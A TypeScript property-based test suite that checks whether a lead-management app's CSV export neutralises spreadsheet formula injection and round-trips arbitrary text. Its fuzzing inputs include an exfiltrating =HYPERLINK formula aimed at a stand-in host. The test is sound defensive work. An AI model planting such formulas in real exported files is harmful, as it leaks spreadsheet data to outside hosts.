/**
 * CSV export (src/core/csv.ts, GET /api/leads.csv) against any text: a standard CSV reader reads back
 * exactly the values written (a formula-looking one with its `'` prefix), and no cell a spreadsheet
 * would run as a formula comes out. Seeded: `FC_SEED=<seed>` replays a failure.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { csvCell, csvRow, FORMULA_PREFIX } from '../../src/core/csv.js';
import { createSource, startTestServer, TEST_ADMIN_TOKEN, type TestServer } from '../helpers/server.js';
import { parseCsv } from '../helpers/csv.js';
import { check } from './support.js';

const FORMULA_START = /^[=+\-@\t\r]/;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

/** What a value reads back as: its UTF-8-encodable form, with the prefix when it looks like a formula. */
function expected(value: string): string {
  const text = value.replace(LONE_SURROGATE, '\uFFFD');
  return FORMULA_START.test(text) ? FORMULA_PREFIX + text : text;
}

/** Text heavy in what breaks CSV and what spreadsheets run: quotes, commas, line breaks, formula starts, any UTF-16 unit. */
const hostile = fc.string({
  unit: fc.oneof(
    fc.constantFrom('"', ',', '\r', '\n', '\r\n', '=', '+', '-', '@', '\t', "'", ' ', '|', 'a', '=HYPERLINK("http://x/?"&A1)', '\u0000', '\uFEFF'),
    fc.integer({ min: 0, max: 0xffff }).map((u) => String.fromCharCode(u)),
    fc.string({ unit: 'grapheme', maxLength: 3 }),
  ),
  maxLength: 30,
});

describe('CSV cells and rows (property)', () => {
  it('reads back, through UTF-8 and a standard CSV reader, exactly the values written, modulo the formula prefix', async () => {
    await check(
      fc.asyncProperty(fc.array(fc.array(hostile, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 }), async (rows) => {
        const file = Buffer.from(rows.map(csvRow).join(''), 'utf8').toString('utf8');
        assert.deepEqual(parseCsv(file), rows.map((r) => r.map(expected)));
      }),
      2000,
    );
  });

  it('writes no cell a spreadsheet would run as a formula', async () => {
    await check(
      fc.asyncProperty(hostile, async (value) => {
        const [[cell]] = parseCsv(csvRow([value])) as [[string]];
        assert.ok(!FORMULA_START.test(cell), JSON.stringify(cell));
      }),
      2000,
    );
  });

  it('writes nothing for null and undefined, and numbers and booleans as text', () => {
    assert.deepEqual([csvCell(null), csvCell(undefined), csvCell(12), csvCell(false), csvCell(-3)], ['', '', '12', 'false', "'-3"]);
  });
});

describe('GET /api/leads.csv with hostile lead fields (property)', () => {
  let t: TestServer;
  let source: any;
  let serial = 0;
  before(async () => {
    t = await startTestServer();
    source = await createSource(t, 'praetorian');
  });
  after(async () => t.close());

  it('exports whatever names, e-mails and phones a webhook sent, each read back as sent (modulo the prefix), formula-safe', async () => {
    await check(
      fc.asyncProperty(fc.array(fc.record({ first: hostile, last: hostile, phone: hostile }), { minLength: 1, maxLength: 5 }), async (people) => {
        const tag = `csvprop${++serial}x`;
        const items = people.map((p, i) => ({ id: `led_${tag}_${i}`, data: { first_name: p.first, last_name: p.last, phone: p.phone, email: `${tag}${i}@example.com` } }));
        const hook = await t.hook(source.webhookPath, items, { authorization: source.secret });
        assert.equal(hook.status, 200);
        const res = await fetch(`${t.url}/api/leads.csv?q=${tag}`, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
        assert.equal(res.status, 200);
        const [header, ...records] = parseCsv(await res.text());
        assert.equal(header?.join(','), 'id,name,phone,email,provider,sourceId,sourceName,stage,providerStatus,assignee,firstSeenAt,lastEventAt');
        const applied = hook.json.leads as { id: string }[];
        assert.equal(records.length, applied.length);
        for (const record of records) {
          for (const cell of record) assert.ok(!FORMULA_START.test(cell), `formula-safe: ${JSON.stringify(cell)}`);
          const lead = (await t.api('GET', `/api/leads/${record[0]}`)).json;
          const p = lead.person;
          const name = p.fullName ?? ([p.firstName, p.lastName].filter((n: string | null) => n !== null).join(' ') || null);
          assert.deepEqual(record.slice(0, 4), [lead.id, expected(name ?? ''), expected(p.phone ?? p.phoneRaw ?? ''), expected(p.email ?? p.emailRaw ?? '')]);
        }
      }),
      40,
    );
  });
});
